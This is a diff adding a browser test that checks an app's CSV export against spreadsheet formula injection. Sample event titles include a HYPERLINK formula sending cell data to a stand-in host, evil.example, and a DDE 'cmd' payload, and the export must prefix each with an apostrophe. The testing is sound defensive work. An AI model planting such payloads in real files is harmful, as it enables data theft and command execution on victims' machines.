@@ -101,3 +101,26 @@ test('the template downloads with the columns and two example rows, and opens as
   assertClean(problems);
   await context.close();
 });
+
+test('formula-like titles are exported as text, and the export opens as the same titles', async () => {
+  const { page, context, problems } = await openApp(env.browser, env.server, '');
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
+  const quoted = (cell) => `"${cell.replace(/"/g, '""')}"`;
+  const sheet = ['id,title_en,start,countries', ...hostile.map((title, i) => `h${i},${quoted(title)},2024-05-2${i},CN`)].join('\r\n');
+  await pick(page, 'hostile.csv', Buffer.from(sheet));
+  await resultCount(page, hostile.length);
+  const exports = page.getByRole('group', { name: `Export ${hostile.length} events` });
+  const exported = await download(page, exports.getByRole('button', { name: 'Spreadsheet (.csv)' }));
+  // Split the written CSV into cells (quoted cells may hold separators and doubled quotes).
+  const cells = [...exported.bytes.toString('utf8').replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)]
+    .map((m) => m[1].replace(/^"|"$/g, '').replace(/""/g, '"'));
+  const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)));
+  assert.deepEqual(live, [], 'no cell starts a formula');
+  for (const title of hostile) assert.ok(cells.includes(`'${title}`), `${title} is written behind an apostrophe`);
+  await pick(page, exported.name, exported.bytes);
+  await resultCount(page, hostile.length);
+  const titles = await page.locator('.event-row__title').allInnerTexts();
+  assert.deepEqual(titles.sort(), [...hostile].sort(), 'the titles read back as they were');
+  assertClean(problems);
+  await context.close();
+});
